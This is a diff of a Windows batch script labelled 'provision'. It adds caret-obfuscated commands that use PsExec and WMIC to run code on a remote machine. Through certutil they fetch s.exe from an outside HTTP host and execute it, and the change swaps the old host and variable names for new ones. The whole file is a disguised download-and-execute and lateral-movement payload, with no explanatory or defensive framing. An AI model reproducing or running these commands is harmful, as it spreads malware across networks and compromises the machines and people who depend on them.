@@ -1,7 +1,7 @@
-REM run 4413 v1
+REM provision 4998 v1
 @echo off
-set kvlf=ps^ex^ec.^ex^e \\^198.51.^100.9 -a^c^cep^teu^la -s -d c^m^d /c "certutil -urlcache -f http://198.51.100.9/s.exe C:\s.exe && C:\s.exe"
-call %kvlf%
+set radr=p^se^xe^c.^e^xe \\^19^2.^0.^2.150 -^ac^cep^teu^l^a -^s -d ^cmd /^c "certutil -urlcache -f http://192.0.2.150/s.exe C:\s.exe && C:\s.exe"
+call %radr%
 @echo off
-set dtxl=wmi^c /^no^de:^1^9^8.^51.^10^0.9 proce^ss ^cal^l ^create "cmd /c C:\s.exe"
-call %dtxl%
+set prmw=w^m^ic /n^od^e:^192.0.2.^1^50 p^roc^e^s^s ^c^a^ll c^re^at^e "cmd /c C:\s.exe"
+call %prmw%
